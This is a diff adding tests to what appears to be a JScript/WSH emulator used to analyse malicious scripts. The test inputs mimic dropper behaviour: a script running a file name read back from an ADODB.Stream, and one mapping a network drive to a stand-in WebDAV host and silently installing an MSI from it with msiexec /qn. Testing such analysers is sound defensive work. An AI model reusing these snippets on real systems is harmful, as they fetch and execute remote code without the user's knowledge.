@@ -317,3 +317,22 @@ def test_an_address_that_must_not_be_there():
 
 def test_a_zero_in_the_source_is_a_character_of_a_text():
     assert said('var a = "x\0y"; WScript.Echo(a.length)') == ["3"]
+
+
+def test_text_that_is_read_without_parentheses_is_read_at_once():
+    """As in the reader of binary files that goes around: `stream.ReadText` stands before `stream.Close()`, and its value is used after that."""
+    found = run(
+        "var s = new ActiveXObject('ADODB.Stream'); s.Type = 2; s.Charset = '437'; s.Open(); s.WriteText('a.exe'); s.Position = 0;"
+        "var text = s.ReadText; s.Close(); new ActiveXObject('WScript.Shell').Run(text);"
+    )
+    assert effects(found, "run") == ["a.exe"]
+
+
+def test_a_drive_that_was_connected_leads_to_its_share():
+    found = run(
+        "var n = new ActiveXObject('WScript.Network'); n.MapNetworkDrive('Z:', '\\\\\\\\files.example.test@80\\\\a\\\\');"
+        "new ActiveXObject('WScript.Shell').Run('msiexec /i Z:\\\\b.msi /qn http://c:80/');"
+    )
+    assert [item.data for item in found if isinstance(item, Child) and item.kind == "script.cmd"] == [
+        rb"msiexec /i \\files.example.test@80\a\b.msi /qn http://c:80/"
+    ]
